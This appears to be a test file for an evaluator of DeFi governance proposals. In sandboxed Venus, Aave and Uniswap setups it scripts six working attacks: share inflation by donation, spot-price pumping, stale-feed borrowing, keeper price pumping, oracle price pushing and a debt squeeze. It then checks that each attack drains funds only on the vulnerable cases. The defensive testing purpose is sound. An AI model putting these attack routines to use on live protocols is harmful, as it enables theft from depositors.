"""The known attacks, made by hand: each works on its disaster and fails on the twins.

What the evaluation has to find by itself is done here on purpose, so that a case
that is caught is caught for a harm that exists.
"""

from __future__ import annotations

import pytest

from evaluator.chain.abi import Abi
from evaluator.chain.contract import Contract
from evaluator.chain.embedded.build import _DEPLOYER
from evaluator.errors import TransactionReverted
from evaluator.governance.adapter import open_governor
from gallery.cases import chosen
from gallery.stage import BUILDER, TOKEN, WAD, Stage

ATTACKER = "0x5ea70000000000000000000000000000000000aa"
ENOUGH = 1e6  # USD
CRV, LINK = 0.95, 21.5
CONTRACTS = Abi.parse(
    [
        "function swapExactTokensForTokens(uint256,uint256,address[],address,uint256)"
        " returns (uint256[])",
        "function push(int256)",
        "function enterMarkets(address[]) returns (uint256[])",
        "function getAllMarkets() view returns (address[])",
        "function getCash() view returns (uint256)",
        "function underlying() view returns (address)",
        "function mint(uint256) returns (uint256)",
        "function borrow(uint256) returns (uint256)",
        "function redeemUnderlying(uint256) returns (uint256)",
        "function getAccountLiquidity(address) view returns (uint256,uint256,uint256)",
        "function getFeed(string) view returns (address)",
        "function getSourceOfAsset(address) view returns (address)",
        "function getReservesList() view returns (address[])",
        "function supply(address,uint256,address,uint16)",
        "function borrow(address,uint256,uint256,uint16,address)",
        "function getUserAccountData(address) view returns (uint256 collateral, uint256 debt,"
        " uint256 available, uint256 threshold, uint256 ltv, uint256 healthFactor)",
    ]
)


class Scene(Stage):
    """A case whose proposal was executed, with what an attacker does there."""

    def at(self, address: str) -> Contract:
        return self.sandbox.contract(address, CONTRACTS)

    def held(self, token: Contract, holder: str = ATTACKER) -> int:
        return int(token.call("balanceOf", holder))

    @property
    def newest_venus_market(self) -> Contract:
        return self.at(self.at(self.deployment.venus.comptroller).call("getAllMarkets")[-1])

    @property
    def newest_aave_token(self) -> Contract:
        listed = self.at(self.deployment.aave.pool).call("getReservesList")
        return self.sandbox.contract(listed[-1], TOKEN)

    def push(self, feed: str, usd: float, sender: str) -> None:
        self.at(feed).send("push", int(usd * 10**8), sender=sender)

    def buy_on_pair(self, token: Contract, dollars: float) -> float:
        """Pay with WETH on the V2 pair; whole tokens received."""
        router = self.at(self.deployment.uniswap.v2_router)
        weth = self.token("WETH")
        units = self.give(weth, ATTACKER, dollars / 3350.0)
        weth.send("approve", router.address, units, sender=ATTACKER)
        before = self.held(token)
        route = [weth.address, token.address]
        router.send("swapExactTokensForTokens", units, 0, route, ATTACKER, 2**64, sender=ATTACKER)
        return (self.held(token) - before) / WAD

    def supply(self, token: Contract, whole: float) -> None:
        """Supply to Aave; nothing if a cap forbids it."""
        units = int(whole * 10**6) * 10 ** (token.call("decimals") - 6)
        token.send("approve", self.pool.address, units, sender=ATTACKER)
        self.at(self.pool.address).send(
            "supply", token.address, units, ATTACKER, 0, sender=ATTACKER
        )

    def drain_aave(self) -> float:
        """Borrow what the collateral allows; USD."""
        pool, taken = self.at(self.pool.address), 0.0
        for symbol, price, unit in (("WBTC", 95e3, 10**8), ("USDC", 1.0, 10**6)):
            able = pool.call("getUserAccountData", ATTACKER).available / 1e8
            cash = self.held(self.token(symbol), self.deployment.aave.a_tokens[symbol]) / unit
            whole = min(0.99 * able / price, 0.99 * cash)
            if whole * price > 1.0:
                asset = self.deployment.tokens[symbol]
                units = int(whole * unit)
                pool.send("borrow", asset, units, 2, 0, ATTACKER, sender=ATTACKER)
                taken += whole * price
        return taken

    def enter(self, market: Contract, token: Contract, units: int) -> None:
        token.send("approve", market.address, units, sender=ATTACKER)
        market.send("mint", units, sender=ATTACKER)
        comptroller = self.at(self.deployment.venus.comptroller)
        comptroller.send("enterMarkets", [market.address], sender=ATTACKER)

    def drain_venus(self, share: float) -> float:
        """Borrow a share of what the collateral allows; USD."""
        comptroller = self.at(self.deployment.venus.comptroller)
        left = share * comptroller.call("getAccountLiquidity", ATTACKER)[1] / WAD
        taken = 0.0
        for symbol, price, unit in (("USDC", 1.0, 10**6), ("WBTC", 95e3, 10**8)):
            market = self.at(self.deployment.venus.v_tokens[symbol])
            whole = min(left / price, 0.99 * market.call("getCash") / unit)
            before = self.held(self.token(symbol))
            market.send("borrow", int(whole * unit), sender=ATTACKER)
            got = (self.held(self.token(symbol)) - before) / unit * price
            left, taken = left - got, taken + got
        return taken


def inflate_shares(scene: Scene) -> float:
    """Mint two shares, donate, borrow against one, redeem the donation for the other."""
    crv, market = scene.token("CRV"), scene.newest_venus_market
    donated = 60_000_000
    scene.give(crv, ATTACKER, donated + 1)
    scene.enter(market, crv, 4 * 10**8)
    crv.send("transfer", market.address, donated * WAD, sender=ATTACKER)
    taken = scene.drain_venus(0.49)
    before = scene.held(crv)
    market.send("redeemUnderlying", int(donated * WAD * 0.999999), sender=ATTACKER)
    return taken - (donated - (scene.held(crv) - before) / WAD) * CRV


def pump_pair(scene: Scene) -> float:
    """Buy on the pair the price is read from, borrow against what was bought."""
    spent, crv = 18e6, scene.token("CRV")
    scene.supply(crv, scene.buy_on_pair(crv, spent))
    return scene.drain_aave() - spent


def fall_through_floor(scene: Scene) -> float:
    """Buy at a market that fell by four fifths, borrow at what the feed still says."""
    link, market = scene.token("LINK"), scene.at(scene.deployment.venus.v_tokens["LINK"])
    feed = scene.at(scene.deployment.venus.oracle).call("getFeed", "LINK")
    for source in dict.fromkeys((feed, scene.deployment.feeds["LINK"])):
        for owner in (BUILDER, _DEPLOYER):
            try:
                scene.push(source, 0.2 * LINK, owner)
            except TransactionReverted:
                continue  # another's feed, or one that cannot be pushed
    whole = 1_000_000
    scene.enter(market, link, scene.give(link, ATTACKER, whole))
    return scene.drain_venus(0.99) - whole * 0.2 * LINK


def pump_and_leave(scene: Scene) -> float:
    """Buy up the thin pool, let the keeper see the price, borrow against what was bought."""
    spent, token = 12e6, scene.newest_aave_token
    pair = scene.deployment.uniswap.v2_factory
    pairs = Abi.parse(["function getPair(address,address) view returns (address)"])
    weth = scene.token("WETH")
    place = scene.sandbox.contract(pair, pairs).call("getPair", token.address, weth.address)
    bought = scene.buy_on_pair(token, spent)
    price = scene.held(weth, place) * 3350.0 / scene.held(token, place)
    feed = scene.at(scene.deployment.aave.oracle).call("getSourceOfAsset", token.address)
    scene.push(feed, price, BUILDER)
    for part in (1.0, 0.1, 0.001):  # as much as the cap allows
        try:
            scene.supply(token, bought * part)
        except TransactionReverted:
            continue
        break
    return scene.drain_aave() - spent


def print_price(scene: Scene) -> float:
    """Push a price into the feed, borrow against a hundred tokens."""
    market = scene.newest_venus_market
    token = scene.sandbox.contract(market.call("underlying"), TOKEN)
    scene.push(scene.at(scene.deployment.venus.oracle).call("getFeed", "FORT"), 1e6, ATTACKER)
    scene.enter(market, token, scene.give(token, ATTACKER, 100))
    return scene.drain_venus(0.99)


def squeeze(scene: Scene) -> float:
    """Borrow the thin asset against dollars, let its price double; the bad debt left."""
    usdc, crv, whole = scene.token("USDC"), scene.token("CRV"), 20e6
    scene.give(usdc, ATTACKER, whole)
    scene.supply(usdc, whole)
    pool = scene.at(scene.pool.address)
    pool.send("borrow", crv.address, 15_000_000 * WAD, 2, 0, ATTACKER, sender=ATTACKER)
    scene.push(scene.deployment.feeds["CRV"], 2.0 * CRV, _DEPLOYER)
    data = pool.call("getUserAccountData", ATTACKER)
    return (data.debt - data.collateral) / 1e8


def executed(sandbox, deployment, name: str) -> Scene:
    (case,) = chosen([name])
    ref = case.build(Stage(sandbox, deployment))
    sandbox.mine()
    oracle = sandbox.contract(deployment.venus.oracle, CONTRACTS)
    feeds = (*deployment.feeds.values(), oracle.call("getFeed", "FORT"))
    governor = open_governor(sandbox, ref.governor)
    proposal = governor.find(sandbox, ref.proposal_id)
    trace = governor.execute(sandbox, proposal, feeds=feeds)
    assert trace.succeeded
    assert not trace.soft_failures
    return Scene(sandbox, deployment)


@pytest.mark.chain
@pytest.mark.parametrize(
    ("name", "attack"),
    [
        ("empty-listing", inflate_shares),
        ("spot-price", pump_pair),
        ("floored-feed", fall_through_floor),
        ("own-token", pump_and_leave),
        ("bought-quorum", print_price),
        ("squeeze", squeeze),
    ],
)
def test_the_disaster_happens(sandbox, sandbox_deployment, name, attack):
    assert attack(executed(sandbox, sandbox_deployment, name)) > ENOUGH


@pytest.mark.chain
@pytest.mark.parametrize(
    ("name", "attack"),
    [
        ("seeded-listing", inflate_shares),
        ("factorless-listing", inflate_shares),
        ("external-feed", pump_pair),
        ("far-floor", fall_through_floor),
        ("plain-feed", fall_through_floor),
        ("own-token-capped", pump_and_leave),
        ("own-token-deep", pump_and_leave),
        ("keeper-feed", print_price),
        ("small-raise", squeeze),
    ],
)
def test_the_same_attack_fails_on_a_twin(sandbox, sandbox_deployment, name, attack):
    scene = executed(sandbox, sandbox_deployment, name)
    try:
        gained = attack(scene)
    except TransactionReverted:
        gained = 0.0  # the contracts refuse it
    assert gained < ENOUGH / 10
